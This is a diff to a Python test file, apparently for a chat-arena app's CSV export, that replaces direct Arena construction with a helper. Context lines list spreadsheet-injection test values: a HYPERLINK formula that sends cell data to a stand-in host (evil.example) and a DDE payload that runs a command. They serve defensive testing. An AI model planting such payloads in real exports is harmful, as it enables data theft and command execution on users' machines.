@@ -12,7 +12,7 @@ import random
 
 import pytest
 
-from core.arena import Arena, battles_csv
+from core.arena import battles_csv
 from core.batch import BatchRunner, result_rows, results_csv
 from core.catalog import parse_catalog
 from core.chat import ChatService
@@ -25,6 +25,7 @@ from core.store import batches as batch_store
 from core.store.batches import NewPrompt
 from core.store.users import ensure_user
 from core.worker import Worker
+from tests.battle_helpers import arena_for
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
 HOSTILE = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1"]
@@ -91,7 +92,7 @@ def hostile_arena(db, server):
         }
     )
     worker = Worker(catalog)
-    yield Arena(ChatService(catalog, worker), rng=random.Random(3))
+    yield arena_for(ChatService(catalog, worker), rng=random.Random(3))
     worker.shutdown()
 
 
